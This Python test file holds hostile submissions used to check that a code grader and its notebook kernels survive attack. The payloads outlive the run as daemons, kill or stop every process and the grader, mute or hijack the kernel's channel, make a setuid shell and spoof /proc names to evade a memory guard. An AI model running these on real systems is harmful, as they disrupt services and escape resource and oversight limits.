"""Attacks by processes: to outlive the submission, to kill, stop or hang the grader and its kernels."""
# ruff: noqa: E501 (an attack is written in as few lines as it takes)

from hostile import code

LONG = 40.0


@code("to live on as a daemon: two forks, a session of its own, no parent's signal")
def daemon(desk):
    return f"""
import ctypes, os, signal, time
if os.fork() == 0:
    os.setsid(); ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT): signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        while True:
            time.sleep(0.2)
            try: open("/tmp/{desk.marker}", "a").close()
            except OSError: pass
    os._exit(0)
"""


@code("to live on as a program: nohup, setsid, a shell in the background")
def background_program():
    return """
import subprocess
for command in (["setsid", "sleep", "100000"], ["nohup", "sleep", "100000"], ["sh", "-c", "(sleep 100000 &) &"]):
    try: subprocess.Popen(command, start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
    except OSError as error: print(error)
"""


@code("to run after the end: threads, atexit and __del__ that sleep for ever")
def after_the_end():
    return """
import atexit, threading, time
atexit.register(time.sleep, 100000)
threading.Thread(target=time.sleep, args=(100000,)).start()
class Last:
    def __del__(self): time.sleep(100000)
last = Last()
"""


@code("to kill all: SIGKILL to everything that can be seen")
def kill_everything():
    return "import os, signal\nos.kill(-1, signal.SIGKILL)\n"


@code("to kill the grader: SIGKILL to the parent, to process 1, to every number")
def kill_by_number():
    return """
import os, signal
for number in [os.getppid(), 1, *range(2, 70000)]:
    if number not in (0, os.getpid()):
        try: os.kill(number, signal.SIGKILL)
        except OSError: pass
"""


@code("to end the kernel in each call", worth=10.0)
def exit_in_the_call():
    return {"scale": "import os\ndef scale(x, factor, name):\n    os._exit(0)\n"}


@code("to hang the grader: the kernel stops itself with SIGSTOP", seconds=LONG)
def stop_itself():
    return "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(0, signal.SIGSTOP)\nos.kill(-1, signal.SIGSTOP)\n"


@code("to stop the grader: SIGSTOP and SIGTSTP to the parent, to process groups and to every number")
def stop_others():
    return """
import os, signal
for number in [os.getppid(), *range(-400, 0), *range(2, 40000)]:
    if number not in (0, -1, os.getpid(), -os.getpgid(0)):
        for which in (signal.SIGSTOP, signal.SIGTSTP):
            try: os.kill(number, which)
            except OSError: pass
"""


@code("to hang the grader: the message loop sleeps, alive and mute", seconds=LONG)
def mute_kernel():
    return """
outlet = get_ipython().outlet
outlet.send = outlet.write = outlet.flush = lambda *a, **k: None
"""


@code("to cut the line: every descriptor closed")
def cut_line():
    return "import os\nos.closerange(3, 500)"


@code("to lead the grader elsewhere: another socket in the place of its channel")
def led_elsewhere(desk):
    return f"""
import os, socket
other = socket.socket(socket.AF_UNIX)
try: other.connect({desk.ports.get("unix", "/run/docker.sock")!r})
except OSError: other = socket.socketpair()[0]
os.dup2(other.fileno(), get_ipython().outlet.stream.fileno())
"""


@code("to take the guard with it: its own parent-death signal cleared, then everything is forked away")
def without_guard():
    return """
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.prctl(1, 0, 0, 0, 0); libc.prctl(4, 0, 0, 0, 0); libc.prctl(36, 1, 0, 0, 0)
for _ in range(5):
    if os.fork() == 0:
        os.setsid(); libc.prctl(1, 0, 0, 0, 0); time.sleep(100000)
"""


@code("to reach the kernel's own privileges back: a new program with the setuid bit")
def setuid_program():
    return """
import os, shutil, subprocess
for program in ("/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/bin/mount", "/usr/bin/newgrp"):
    try: print(subprocess.run([program, "-c", "id"], capture_output=True, timeout=2, stdin=subprocess.DEVNULL))
    except Exception as error: print(error)
try:
    shutil.copy("/bin/sh", "/tmp/sh"); os.chmod("/tmp/sh", 0o6755)
    print(subprocess.run(["/tmp/sh", "-pc", "id"], capture_output=True, timeout=2))
except Exception as error: print(error)
"""


@code(
    "the grader waits for ever: the kernel lives on, and has closed the socket by which it is asked",
    worth=10.0,
    exact=False,
    seconds=LONG,
)
def closed_socket():
    return "import socket\nget_ipython().outlet.stream.shutdown(socket.SHUT_RD)"


@code("the grader waits for ever: the kernel ends a moment after its cell", worth=10.0, exact=False, seconds=LONG)
def late_end():
    return "import os, threading, time\nthreading.Thread(target=lambda: (time.sleep(0.05), os._exit(0))).start()"


@code(
    "the guard ended, so that no limit holds: a process whose name looks like a line of what is read about it",
    worth=10.0,
    exact=False,
)
def name_of_a_line():
    return """
import ctypes, time
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
for name in ("\\x0bRssAnon: x", "\\x1eRssAnon: -99", "\\u2028RssAnon: x", "\\x85RssAnon: x"):
    with open("/proc/self/comm", "w") as file: file.write(name)
    time.sleep(0.3)
kept = [bytearray(b"x" * 10**8) for _ in range(30)]
time.sleep(1)
"""
